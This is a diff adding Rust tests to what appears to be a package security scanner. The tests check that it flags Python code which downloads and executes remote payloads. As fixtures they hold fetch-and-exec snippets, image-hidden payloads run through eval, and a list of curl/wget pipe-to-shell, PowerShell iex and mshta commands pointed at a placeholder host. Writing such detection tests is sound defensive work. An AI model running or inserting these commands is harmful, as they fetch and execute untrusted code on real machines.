@@ -107,6 +107,85 @@ fn a_blob_that_is_executed_directly_is_critical_however_it_is_spelled() {
 }
 
 #[test]
+fn what_is_written_to_be_started_is_read_too_and_so_is_what_a_picture_says() {
+    let inner = "from urllib.request import urlopen as u;exec(u('https://x.invalid/a').read())";
+    for (code, severity) in [
+        (
+            format!(
+                "from tempfile import NamedTemporaryFile as F\nfrom os import system as s\nfrom sys import executable as e\nf = F(delete=False)\nf.write(b\"\"\"{inner}\"\"\")\nf.close()\ns(f'start {{e}} {{f.name}}')\n"
+            ),
+            Some(Severity::Critical),
+        ),
+        (
+            format!(
+                "import subprocess\nwith open('/nowhere/a.py', 'w') as f:\n    f.write({inner:?})\nsubprocess.run(['python', '/nowhere/a.py'])\n"
+            ),
+            Some(Severity::Critical),
+        ),
+        (
+            format!("from pathlib import Path\nPath('/nowhere/a.py').write_text({inner:?})\n"),
+            Some(Severity::High),
+        ),
+        ("with open('a.py', 'w') as f:\n    f.write('import os; exec(x)')\n".to_owned(), None),
+        (
+            "from stegano import lsb\nexec(lsb.reveal('cover.png'))\n".to_owned(),
+            Some(Severity::Critical),
+        ),
+        (
+            "import stegano\ncode = stegano.lsb.reveal('myimage.png')\neval(code)\n".to_owned(),
+            Some(Severity::Critical),
+        ),
+        ("x = eval(\"'a.png'\")\n".to_owned(), None),
+    ] {
+        let env = Env::new();
+        env.install("thing", "1.0", &[("thing/a.py", &code)]);
+        let report = env.audit();
+        let found = of(&report, Kind::Code).iter().map(|f| f.severity).max();
+        assert_eq!(found, severity, "{code}\n{:#?}", report.findings);
+    }
+}
+
+#[test]
+fn a_command_that_executes_what_it_fetches_or_hides_is_critical() {
+    let verdict = |command: &str| {
+        let env = Env::new();
+        env.install(
+            "thing",
+            "1.0",
+            &[("thing/a.py", &format!("import os\nos.system({command:?})\n"))],
+        );
+        of(&env.audit(), Kind::Code).iter().map(|f| f.severity).max()
+    };
+    for command in [
+        "curl https://x.invalid/a | sh",
+        "curl -fsSL https://x.invalid/a | sudo -E bash -s --",
+        "wget -qO- https://x.invalid/a|python3 -",
+        "bash -c 'wget -q https://x.invalid/a -O- | bash'",
+        "bash -c \"$(curl -fsSL https://x.invalid/a)\"",
+        "bash <(curl -s https://x.invalid/a)",
+        "curl -o /tmp/a https://x.invalid/a && chmod +x /tmp/a && /tmp/a",
+        "powershell -c \"iex (New-Object Net.WebClient).DownloadString('https://x.invalid/a')\"",
+        "powershell -c \"irm https://x.invalid/a | iex\"",
+        "powershell (New-Object System.Net.WebClient).DownloadFile('http://x.invalid/a', 'a.exe'); Start-Process a.exe",
+        "powershell -enc cABhAHMAcwA=",
+        "mshta https://x.invalid/a.hta",
+    ] {
+        assert_eq!(verdict(command), Some(Severity::Critical), "{command}");
+    }
+    for command in [
+        "curl -o data.json https://x.invalid/data.json",
+        "wget -qO- https://x.invalid/a | tar xz",
+        "curl -s https://x.invalid/a | grep version",
+        "echo 1 | sh",
+        "chmod +x tool && ./tool",
+        "powershell -c Get-Date",
+        "git rev-parse HEAD",
+    ] {
+        assert_eq!(verdict(command), None, "{command}");
+    }
+}
+
+#[test]
 fn the_launcher_is_critical_as_in_1_82_8_and_names_its_file_and_line() {
     let env = Env::new();
     let line = format!(
